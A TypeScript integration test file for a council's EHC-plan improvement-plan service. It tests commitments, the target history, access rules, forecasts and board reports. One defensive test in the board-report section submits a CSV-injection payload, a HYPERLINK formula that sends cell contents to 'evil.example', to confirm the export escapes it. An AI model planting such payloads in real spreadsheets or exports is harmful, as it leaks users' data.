/**
 * The improvement plan as a board writes and publishes it. "Today" is 1 April 2025 (test/app.ts). A commitment cannot
 * be saved as measurable without what makes it measurable; a draft is never published; a published target cannot move
 * without a reason, and every move is kept for good (the database refuses to change the history) and shown publicly.
 */
import { visibleWords } from '../../../../test/pages.js';
import { parse } from 'csv-parse/sync';
import { and, eq, sql } from 'drizzle-orm';
import type TestAgent from 'supertest/lib/agent.js';
import supertest from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csrfFrom, signedIn, testApp } from '../../../../test/app.js';
import { setUpIntegration } from '../../../../test/integration.js';
import { PLAN_DETAILS_FORM } from '../../../../test/planDetails.js';
import type { Fixture } from '../../../../test/fixtures.js';
import type { Database } from '../../../data/db.js';
import { auditLog, commitmentHistory, commitments, forecastStaffing } from '../../../data/schema.js';
import { NotFoundError } from '../../../services/errors.js';
import type { Services } from '../../../services/index.js';

let database: Database;
let fixture: Fixture;
let app: ReturnType<typeof testApp>['app'];
let services: Services;
let board: TestAgent;

beforeAll(async () => {
  ({ database, fixture, app, services } = await setUpIntegration());
  await services.measures.refresh();
  board = await signedIn(app, fixture.users.board!.email);
});
afterAll(async () => {
  await database.close();
});

const email = (key: string) => fixture.users[key]!.email;

async function post(agent: TestAgent, formPath: string, action: string, fields: Record<string, string>) {
  const page = await agent.get(formPath);
  // As a browser would: the version the form was opened at goes back with it, unless the test says otherwise.
  const version = /name="version" value="(\d+)"/.exec(page.text)?.[1];
  return agent
    .post(action)
    .type('form')
    .send({ _csrf: csrfFrom(page.text), ...(version === undefined ? {} : { version }), ...fields });
}

const MEASURABLE = {
  statement: '60% of new EHC plans issued within 20 weeks by March 2026',
  measureId: 'plans_within_20_weeks_excl',
  polarity: 'increase',
  baselineValue: '32.6',
  baselinePeriod: 'March 2025',
  baselineN: '',
  targetValue: '60',
  'targetDate-day': '31',
  'targetDate-month': '3',
  'targetDate-year': '2026',
  milestones: 'September 2025 45\nDecember 2025 52',
  ownerRole: 'Head of SEND Statutory Services',
  ownerOrganisation: 'Test County Council',
  frequency: 'monthly',
  lagMonths: '1',
};

/** The plan's details form, filled in: 1 April 2025 to 31 March 2028, published. */
const DETAILS = { ...PLAN_DETAILS_FORM, version: '0', published: 'yes' };

let priorityId: string;
let commitmentId: string;

describe('setting up the plan', () => {
  it('offers to set up a plan when there is none, and refuses a plan that ends before it starts', async () => {
    const none = await board.get('/improvement-plan').expect(200);
    expect(none.text).toContain('Set up the plan');
    const bad = await post(board, '/improvement-plan/details', '/improvement-plan/details', {
      ...DETAILS,
      'periodEnd-year': '2025',
    });
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('The plan must end after it starts');
    expect((await board.get('/improvement-plan')).text).toContain('Set up the plan');
  });

  it('saves the details, then warns that nothing looks beyond 12 months until a long-term objective is added', async () => {
    await post(board, '/improvement-plan/details', '/improvement-plan/details', DETAILS).then((r) =>
      expect(r.status).toBe(303),
    );
    await post(board, '/improvement-plan/priorities/new', '/improvement-plan/priorities', {
      title: 'Timeliness',
      description: 'Plans issued late',
    }).then((r) => expect(r.status).toBe(303));
    const before = await board.get('/improvement-plan').expect(200);
    expect(visibleWords(before.text)).toContain('Nothing in the plan looks beyond the next 12 months');
    await post(board, '/improvement-plan/objectives/new', '/improvement-plan/objectives', {
      text: '80% of plans within 20 weeks every year',
      'horizon-day': '31',
      'horizon-month': '3',
      'horizon-year': '2028',
    }).then((r) => expect(r.status).toBe(303));
    const after = await board.get('/improvement-plan').expect(200);
    expect(visibleWords(after.text)).not.toContain('Nothing in the plan looks beyond the next 12 months');
    priorityId = /<option value="([0-9a-f-]{36})">Timeliness<\/option>/.exec(
      (await board.get('/improvement-plan/commitments/new')).text,
    )![1]!;
  });
});

describe('from a vague commitment to a measurable one', () => {
  it('refuses to save a vague commitment as measurable, naming each missing part, and saves nothing', async () => {
    const res = await post(board, '/improvement-plan/commitments/new', '/improvement-plan/commitments', {
      version: '0',
      intent: 'measurable',
      statement: 'Improve the timeliness of EHC plans',
      priorityId,
    });
    expect(res.status).toBe(400);
    const text = visibleWords(res.text);
    for (const expected of [
      'No target number',
      'No date',
      'No owner',
      'No baseline',
      'No data definition',
      'A vague verb with no measure behind it: “improve”',
    ]) {
      expect(text).toContain(expected);
    }
    expect(res.text).toContain('href="#targetValue"');
    const stored = await database.db.select().from(commitments);
    expect(stored).toHaveLength(0);
  });

  it('checks without saving', async () => {
    const res = await post(board, '/improvement-plan/commitments/new', '/improvement-plan/commitments', {
      version: '0',
      intent: 'check',
      statement: 'Improve the timeliness of EHC plans',
    });
    expect(res.status).toBe(200);
    expect(visibleWords(res.text)).toContain('Not measurable yet: 6 problems');
    expect(await database.db.select().from(commitments)).toHaveLength(0);
  });

  it('saves it as a draft, which the check lists and the public page never shows', async () => {
    const res = await post(board, '/improvement-plan/commitments/new', '/improvement-plan/commitments', {
      version: '0',
      intent: 'draft',
      statement: 'Improve the timeliness of EHC plans',
      priorityId,
    });
    expect(res.status).toBe(303);
    commitmentId = /commitments\/([0-9a-f-]{36})/.exec(res.headers.location!)![1]!;
    const overview = visibleWords((await board.get('/improvement-plan')).text);
    expect(overview).toContain('0 of 1 commitment is measurable');
    expect(overview).toContain('Improve the timeliness of EHC plans Draft');
    const publicPage = await supertest(app).get('/performance/999/plan').expect(200);
    expect(publicPage.text).not.toContain('Improve the timeliness');
    expect(visibleWords(publicPage.text)).toContain('No measurable commitments published yet');
  });

  it('makes it measurable: published, with the start of its history', async () => {
    const edit = `/improvement-plan/commitments/${commitmentId}/edit`;
    const res = await post(board, edit, `/improvement-plan/commitments/${commitmentId}`, {
      ...MEASURABLE,
      version: '1',
      intent: 'measurable',
      priorityId,
    });
    expect(res.status).toBe(303);
    const page = visibleWords((await board.get(`/improvement-plan/commitments/${commitmentId}`).expect(200)).text);
    expect(page).toContain('60% by March 2026');
    expect(page).toContain('Baseline 32.6% in March 2025');
    expect(page).toContain('Commitment made measurable and published');
    const publicPage = visibleWords((await supertest(app).get('/performance/999/plan').expect(200)).text);
    expect(publicPage).toContain('C1. 60% of new EHC plans issued within 20 weeks by March 2026');
    expect(publicPage).toContain('Target: 60% by March 2026');
  });

  it('cannot move the target without a reason; with one, the change is kept and published', async () => {
    const edit = `/improvement-plan/commitments/${commitmentId}/edit`;
    const moved = {
      ...MEASURABLE,
      'targetDate-month': '7',
      version: '2',
      intent: 'measurable',
      priorityId,
      measurable: 'yes',
    };
    const refused = await post(board, edit, `/improvement-plan/commitments/${commitmentId}`, { ...moved, reason: '' });
    expect(refused.status).toBe(400);
    expect(visibleWords(refused.text)).toContain('Give a reason for changing the target');
    const [row] = await database.db.select().from(commitments).where(eq(commitments.id, commitmentId));
    expect(row!.targetDate).toBe('2026-03-31');

    const saved = await post(board, edit, `/improvement-plan/commitments/${commitmentId}`, {
      ...moved,
      reason: 'The backlog is cleared first',
    });
    expect(saved.status).toBe(303);
    const publicPage = visibleWords((await supertest(app).get('/performance/999/plan').expect(200)).text);
    expect(publicPage).toContain('Target changed from 60% by March 2026 to 60% by July 2026');
    expect(publicPage).toContain('Reason: The backlog is cleared first');
    // The public page says who by their role, not their name; the signed-in page names them.
    expect(publicPage).toContain(', an improvement board member');
    expect(publicPage).not.toContain(', Board');
    expect(visibleWords((await board.get(`/improvement-plan/commitments/${commitmentId}`)).text)).toContain(', Board');
  });

  it('refuses a form opened before someone else saved, keeping what was typed', async () => {
    const edit = `/improvement-plan/commitments/${commitmentId}/edit`;
    const stale = await post(board, edit, `/improvement-plan/commitments/${commitmentId}`, {
      ...MEASURABLE,
      statement: 'A stale edit',
      version: '2',
      intent: 'measurable',
      priorityId,
      measurable: 'yes',
      reason: 'x',
    });
    expect(stale.status).toBe(409);
    expect(stale.text).toContain('A stale edit');
    expect(visibleWords(stale.text)).toContain('Someone else changed this commitment');
  });

  it('does not let a published commitment go back to draft', async () => {
    const res = await post(
      board,
      `/improvement-plan/commitments/${commitmentId}/edit`,
      `/improvement-plan/commitments/${commitmentId}`,
      {
        ...MEASURABLE,
        version: '3',
        intent: 'draft',
        priorityId,
      },
    );
    expect(res.status).toBe(400);
    expect(visibleWords(res.text)).toContain('cannot go back to draft');
  });
});

describe('the history of targets', () => {
  it('is append-only: the database refuses to change, delete or empty it', async () => {
    const [entry] = await database.db
      .select()
      .from(commitmentHistory)
      .where(eq(commitmentHistory.commitmentId, commitmentId));
    expect(entry).toBeDefined();
    for (const statement of [
      sql`update commitment_history set reason = 'nothing happened'`,
      sql`delete from commitment_history`,
      sql`truncate commitment_history`,
    ]) {
      await expect(database.db.execute(statement)).rejects.toThrow();
    }
    const after = await database.db.select().from(commitmentHistory);
    expect(after.map((h) => h.reason)).toContain(entry!.reason);
    expect(after).toHaveLength(2);
  });
});

describe('who may do what', () => {
  it('lets caseworkers read the plan but not change it; parents cannot open it', async () => {
    const caseworker = await signedIn(app, email('caseworker'));
    await caseworker.get('/improvement-plan').expect(200);
    await caseworker.get(`/improvement-plan/commitments/${commitmentId}`).expect(200);
    await caseworker.get('/improvement-plan/commitments/new').expect(403);
    const parent = await signedIn(app, email('parent'));
    await parent.get('/improvement-plan').expect(403);
    await parent.get(`/improvement-plan/commitments/${commitmentId}`).expect(403);
  });

  it('does not show one LA’s commitment to another LA', async () => {
    const other = await signedIn(app, email('othercaseworker'));
    await other.get(`/improvement-plan/commitments/${commitmentId}`).expect(404);
  });

  it('lets an action’s owner report its progress, and no other caseworker', async () => {
    const res = await post(
      board,
      `/improvement-plan/commitments/${commitmentId}/actions/new`,
      `/improvement-plan/commitments/${commitmentId}/actions`,
      {
        title: 'Recruit three educational psychologists',
        ownerId: fixture.users.caseworker!.id,
        'dueDate-day': '30',
        'dueDate-month': '3',
        'dueDate-year': '2025',
        status: 'in_progress',
        evidence: '',
        capacityStage: 'educational_psychology',
        capacityChange: '3',
        'capacityFrom-day': '1',
        'capacityFrom-month': '6',
        'capacityFrom-year': '2025',
      },
    );
    expect(res.status).toBe(303);
    const page = visibleWords((await board.get(`/improvement-plan/commitments/${commitmentId}`)).text);
    expect(page).toContain('+3 Educational psychologists (advice) from 1 June 2025');
    expect(page).toContain('Overdue');
    const actionId = /actions\/([0-9a-f-]{36})"/.exec(
      (await board.get(`/improvement-plan/commitments/${commitmentId}`)).text,
    )![1]!;

    const someoneElse = await signedIn(app, email('caseworker2'));
    await post(someoneElse, `/improvement-plan/actions/${actionId}`, `/improvement-plan/actions/${actionId}`, {
      version: '1',
      status: 'done',
      evidence: 'not mine',
    }).then((r) => expect(r.status).toBe(403));

    const owner = await signedIn(app, email('caseworker'));
    const noEvidence = await post(
      owner,
      `/improvement-plan/actions/${actionId}`,
      `/improvement-plan/actions/${actionId}`,
      {
        version: '1',
        status: 'done',
        evidence: '',
      },
    );
    expect(noEvidence.status).toBe(400);
    await post(owner, `/improvement-plan/actions/${actionId}`, `/improvement-plan/actions/${actionId}`, {
      version: '1',
      status: 'done',
      evidence: 'Three started in March',
    }).then((r) => expect(r.status).toBe(303));
    const after = visibleWords((await board.get(`/improvement-plan/commitments/${commitmentId}`)).text);
    expect(after).toContain('Done');
    expect(after).not.toContain('Overdue');
  });

  it('audits every read and write of the plan', async () => {
    const rows = await database.db
      .select({ action: auditLog.action, entityType: auditLog.entityType })
      .from(auditLog)
      .where(and(eq(auditLog.entityId, commitmentId)));
    const kinds = new Set(rows.map((r) => `${r.action}:${r.entityType}`));
    expect(kinds).toContain('read:commitment');
    expect(kinds).toContain('update:commitment');
    expect(kinds).toContain('create:commitment');
  });
});

describe('figures entered by hand', () => {
  it('takes a month’s figure for a series entered by hand and refuses a future month or a percentage over 100', async () => {
    const res = await post(board, '/improvement-plan/commitments/new', '/improvement-plan/commitments', {
      ...MEASURABLE,
      statement: '75% of parents say they were kept informed by March 2026',
      measureId: 'manual',
      seriesName: 'Parents kept informed',
      seriesSource: 'Parent carer forum survey',
      seriesNumerator: 'Respondents saying yes',
      seriesDenominator: 'Respondents',
      seriesUnit: '%',
      targetValue: '75',
      version: '0',
      intent: 'measurable',
      priorityId,
    });
    expect(res.status).toBe(303);
    const id = /commitments\/([0-9a-f-]{36})/.exec(res.headers.location!)![1]!;
    const page = `/improvement-plan/commitments/${id}`;
    const future = await post(board, page, `${page}/values`, { month: 'May 2025', value: '40', n: '20' });
    expect(future.status).toBe(400);
    expect(visibleWords(future.text)).toContain('The month must not be in the future');
    const over = await post(board, page, `${page}/values`, { month: 'February 2025', value: '140', n: '20' });
    expect(visibleWords(over.text)).toContain('Value must be a percentage from 0 to 100');
    await post(board, page, `${page}/values`, { month: 'February 2025', value: '40', n: '20' }).then((r) =>
      expect(r.status).toBe(303),
    );
    await post(board, page, `${page}/values`, { month: '2025-03', value: '44', n: '3' }).then((r) =>
      expect(r.status).toBe(303),
    );
    const signedInPage = visibleWords((await board.get(page)).text);
    expect(signedInPage).toContain('44% (March 2025)');
    // March's figure is from 3 replies: the public page does not show it.
    const publicPage = visibleWords((await supertest(app).get('/performance/999/plan')).text);
    expect(publicPage).toContain('40% (February 2025)');
    expect(publicPage).not.toContain('44%');
  });
});

describe('the forecast in a commitment’s assurance', () => {
  it('gives the chance of meeting a 20-week target in its month once the forecast has run, with the forecast’s date', async () => {
    const before = visibleWords((await board.get(`/improvement-plan/commitments/${commitmentId}`)).text);
    expect(before).toContain('Chance of meeting the target Not yet forecast');
    expect(before).not.toContain('The forecast for the months ahead');
    const [done] = await services.forecasts.refresh('999');
    expect(done!.laCode).toBe('999');
    const stored = (await services.forecasts.latest('999'))!;
    // 24 calendar months from April 2025, 200 futures each.
    expect(stored.months.map((m) => m.month).slice(0, 2)).toEqual(['2025-04', '2025-05']);
    expect(stored.months).toHaveLength(24);
    expect(stored.replicationShares[15]).toHaveLength(200);
    // The commitment: 60% by July 2026; its chance is the share of futures whose July 2026 reaches 60%.
    const july = stored.months.findIndex((m) => m.month === '2026-07');
    const shares = stored.replicationShares[july]!;
    const expected = shares.filter((x) => x !== null && x >= 0.6).length / shares.length;
    const after = visibleWords((await board.get(`/improvement-plan/commitments/${commitmentId}`)).text);
    expect(after).toContain(`Chance of meeting the target ${Math.round(expected * 100)}% (forecast of 1 April 2025)`);
    // And its fan chart, against the target.
    const page = (await board.get(`/improvement-plan/commitments/${commitmentId}`)).text;
    expect(page).toContain('aria-labelledby="forecast-chart-title forecast-chart-desc"');
  });
});

describe('the forecast page', () => {
  it('shows the stored forecast as fan charts with their table and the calibration, to those who see the measures', async () => {
    const page = await board.get('/forecast').expect(200);
    const text = visibleWords(page.text);
    expect(page.text).toContain('role="img" aria-labelledby="share-chart-title share-chart-desc"');
    expect(text).toContain('200 possible futures');
    // 23 whole months after the current one, each a row: in the forecast's table and in the open requests by age.
    expect(page.text.match(/<th scope="row" class="govuk-table__header">[A-Z][a-z]+ 20\d\d<\/th>/g)).toHaveLength(46);
    for (const band of ['Under 6 weeks', '6 to 20 weeks', '20 to 52 weeks', '52 weeks or more']) {
      expect(text).toContain(band);
    }
    expect(page.text).toContain('aria-labelledby="open-3-title open-3-desc"');
    expect(text).toContain('Decided to assess');
    expect(page.text).toContain('href="/forecast/scenarios"');
    const caseworker = await signedIn(app, email('caseworker'));
    await caseworker.get('/forecast').expect(403);
  });
});

describe('changing objectives and priority areas', () => {
  it('changes an objective and a priority area; keeps a priority area that has commitments under it', async () => {
    const overview = await board.get('/improvement-plan');
    const objectiveId = /objectives\/([0-9a-f-]{36})\/edit/.exec(overview.text)![1]!;
    await post(
      board,
      `/improvement-plan/objectives/${objectiveId}/edit`,
      `/improvement-plan/objectives/${objectiveId}`,
      {
        text: '85% of plans within 20 weeks every year',
        'horizon-day': '31',
        'horizon-month': '3',
        'horizon-year': '2029',
      },
    ).then((r) => expect(r.status).toBe(303));
    await post(board, `/improvement-plan/priorities/${priorityId}/edit`, `/improvement-plan/priorities/${priorityId}`, {
      title: 'Timeliness of assessments',
      description: '',
    }).then((r) => expect(r.status).toBe(303));
    const after = visibleWords((await board.get('/improvement-plan')).text);
    expect(after).toContain('85% of plans within 20 weeks every year (by 31 March 2029)');
    expect(after).toContain('Timeliness of assessments');

    const refused = await post(
      board,
      `/improvement-plan/priorities/${priorityId}/edit`,
      `/improvement-plan/priorities/${priorityId}/delete`,
      {},
    );
    expect(refused.status).toBe(400);
    expect(visibleWords(refused.text)).toContain('This priority area has commitments under it');

    await post(board, '/improvement-plan/priorities/new', '/improvement-plan/priorities', {
      title: 'Short-lived area',
    });
    const spare =
      /priorities\/([0-9a-f-]{36})\/edit[^>]*>Change<span class="govuk-visually-hidden"> priority area: Short-lived area/.exec(
        (await board.get('/improvement-plan')).text,
      )![1]!;
    await post(
      board,
      `/improvement-plan/priorities/${spare}/edit`,
      `/improvement-plan/priorities/${spare}/delete`,
      {},
    ).then((r) => expect(r.status).toBe(303));
    expect((await board.get('/improvement-plan')).text).not.toContain('Short-lived area');
  });
});

describe('the board report', () => {
  it('lists a commitment behind its trajectory among the exceptions, with the figure and what was expected', async () => {
    const res = await post(board, '/improvement-plan/commitments/new', '/improvement-plan/commitments', {
      ...MEASURABLE,
      statement: '75% of families say they were told what was happening by March 2026',
      measureId: 'manual',
      seriesName: 'Families told what is happening',
      seriesSource: 'Parent carer forum survey',
      seriesNumerator: 'Respondents saying yes',
      seriesDenominator: 'Respondents',
      seriesUnit: '%',
      baselineValue: '50',
      baselinePeriod: 'February 2025',
      targetValue: '75',
      milestones: 'September 2025 60\nDecember 2025 68',
      version: '0',
      intent: 'measurable',
      priorityId,
    });
    expect(res.status, visibleWords(res.text).slice(0, 600)).toBe(303);
    const page = res.headers.location!.split('?')[0]!;
    await post(board, page, `${page}/values`, { month: 'March 2025', value: '40', n: '60' }).then((r) =>
      expect(r.status).toBe(303),
    );
    const report = visibleWords((await board.get('/improvement-plan/board-report').expect(200)).text);
    // The trajectory runs from 50% in February 2025 to 75% in March 2026: March 2025 expects more than 50%.
    expect(report).toMatch(/Behind trajectory in March 2025: 40% against 5\d(\.\d)?% expected/);
  });

  it('lists every commitment with its icons and the exceptions, as a page, a CSV and a tagged PDF', async () => {
    const page = visibleWords((await board.get('/improvement-plan/board-report').expect(200)).text);
    expect(page).toContain('Exceptions needing attention');
    const csv = await board.get('/improvement-plan/board-report.csv').expect(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.text).toContain(
      'Timeliness of assessments,C1,60% of new EHC plans issued within 20 weeks by March 2026',
    );
    const pdf = await board
      .get('/improvement-plan/board-report.pdf')
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const bytes = pdf.body as Buffer;
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    const raw = bytes.toString('latin1');
    expect(raw).toContain('/StructTreeRoot');
    expect(raw).toContain('/Lang (en-GB)');
  });

  it('writes a commitment that looks like a formula as text in the CSV (OWASP CSV injection)', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
    await post(board, '/improvement-plan/commitments/new', '/improvement-plan/commitments', {
      version: '0',
      intent: 'draft',
      statement: hostile,
      priorityId,
    }).then((r) => expect(r.status).toBe(303));
    const csv = await board.get('/improvement-plan/board-report.csv').expect(200);
    const rows: string[][] = parse(csv.text.replace(/^\ufeff/, ''), { relax_column_count: true });
    const cells = rows.flat();
    expect(cells).toContain(`'${hostile}`);
    expect(cells).not.toContain(hostile);
    // No text cell anywhere in the report starts a formula.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('the public plan is not there while the plan is unpublished', async () => {
    const details = await board.get('/improvement-plan/details');
    const version = /name="version" value="(\d+)"/.exec(details.text)![1]!;
    await board
      .post('/improvement-plan/details')
      .type('form')
      .send({ ...DETAILS, _csrf: csrfFrom(details.text), version, published: undefined })
      .expect(303);
    await supertest(app).get('/performance/999/plan').expect(404);
  });
});

describe('forecast scenarios', () => {
  // "Today" is 1 April 2025: a target can be judged from May 2025 to March 2027. The plan has an action adding 3
  // educational psychologists from 1 June 2025 (above).
  const FORM = {
    'staff-educational_psychology': '12',
    'staff-casework': '8',
    saveStaffing: 'yes',
    demand: '10',
    reviews: 'as_now',
    'extra-educational_psychology': '',
    'extra-casework': '2',
    'from-casework-day': '1',
    'from-casework-month': '9',
    'from-casework-year': '2025',
    'target-share': '60',
    'target-month': '3',
    'target-year': '2026',
    solve: 'no',
    chance: '80',
  };

  it('refuses impossible input naming each field, and saves nothing', async () => {
    const page = await board.get('/forecast/scenarios').expect(200);
    expect(visibleWords(page.text)).toContain('+3 educational psychologists from 1 June 2025');
    const refused = await post(board, '/forecast/scenarios', '/forecast/scenarios', {
      ...FORM,
      'staff-casework': '',
      demand: '-95',
      'target-month': '7',
      'target-year': '2027',
      solve: 'educational_psychology',
      chance: '150',
    });
    expect(refused.status).toBe(400);
    const text = visibleWords(refused.text);
    expect(text).toContain('There is a problem');
    expect(text).toContain('The change in requests must be between -90% and 200%');
    expect(text).toContain('Enter the number of EHC caseworkers now, to add more');
    expect(text).toContain('The target month must be between May 2025 and March 2027');
    expect(text).toContain('The chance wanted must be between 1% and 99%');
    expect(refused.text).toContain('href="#target-month"');
    // What was typed is kept, and nothing was saved.
    expect(refused.text).toContain('name="demand" type="text" spellcheck="false" value="-95"');
    expect(await database.db.select().from(forecastStaffing)).toEqual([]);
  });

  it('runs current capacity, the plan and your scenario side by side, with the smallest extra staff', async () => {
    const started = await post(board, '/forecast/scenarios', '/forecast/scenarios', {
      ...FORM,
      solve: 'educational_psychology',
      'solve-from-day': '1',
      'solve-from-month': '6',
      'solve-from-year': '2025',
    });
    expect(started.status).toBe(303);
    const job = started.headers.location!;
    expect(job).toMatch(/^\/forecast\/scenarios\/[0-9a-f-]{36}$/);
    // While it runs, a second run by the same person is refused (nothing else started).
    const again = await post(board, '/forecast/scenarios', '/forecast/scenarios', FORM);
    expect(again.status).toBe(429);
    expect(visibleWords(again.text)).toContain('Your last forecast is still being worked out');
    const progress = await board.get(`${job}/progress`).expect(200);
    expect(['running', 'done']).toContain((progress.body as { status: string }).status);

    await services.scenarios.settled();
    const results = await board.get(job).expect(200);
    const text = visibleWords(results.text);
    expect(text).toContain('The target: 60% within 20 weeks in March 2026');
    for (const name of ['Current capacity', 'The improvement plan', 'Your scenario']) expect(text).toContain(name);
    expect(text).toContain('Chance of 60% within 20 weeks in March 2026');
    expect(text).toContain('How many more it would take');
    // The fixture's history is too short to size the advice and drafting stages: the plan's action and the extra
    // caseworkers are listed as not included, with why, and the solver says why it could not answer.
    expect(text).toMatch(/\+3 educational psychologists from 1 June 2025 \([^)]*\): not included, there is no history/);
    expect(text).toContain('+2 EHC caseworkers from 1 September 2025 (Your scenario): not included');
    expect(text).toContain('There is not enough history of the advice stage to size it');
    expect(text).toContain('Open requests by how long they have been open, at the end of March 2026');
    expect(results.text).toContain('aria-labelledby="chart-custom-title chart-custom-desc"');
    // The service may run as several processes: another one shows the same results.
    const otherProcess = await signedIn(testApp(database).app, email('board'));
    expect(visibleWords((await otherProcess.get(job).expect(200)).text)).toBe(text);
    // The staff numbers were saved for next time, and the run and its reading audited.
    const form = await board.get('/forecast/scenarios').expect(200);
    expect(form.text).toContain('name="staff-educational_psychology" type="text" spellcheck="false" value="12"');
    const audited = await database.db
      .select({ action: auditLog.action, entityType: auditLog.entityType })
      .from(auditLog)
      .where(sql`${auditLog.entityType} in ('forecast_scenario', 'forecast_staffing')`);
    expect(audited).toEqual(
      expect.arrayContaining([
        { action: 'update', entityType: 'forecast_staffing' },
        { action: 'create', entityType: 'forecast_scenario' },
        { action: 'read', entityType: 'forecast_scenario' },
      ]),
    );

    // Those who may not see forecasts cannot run or read them; another LA cannot find the run.
    const caseworker = await signedIn(app, email('caseworker'));
    await caseworker.get(job).expect(403);
    await caseworker.get('/forecast/scenarios').expect(403);
    await board.get('/forecast/scenarios/00000000-0000-4000-8000-000000000000').expect(404);
    const elsewhere = {
      actor: { userId: fixture.users.board!.id, laCode: '998', roles: ['board_member' as const], childIds: [] },
      ip: '127.0.0.1',
      requestId: 'test',
    };
    await expect(services.scenarios.job(elsewhere, job.split('/').pop()!)).rejects.toThrow(NotFoundError);
  });
});
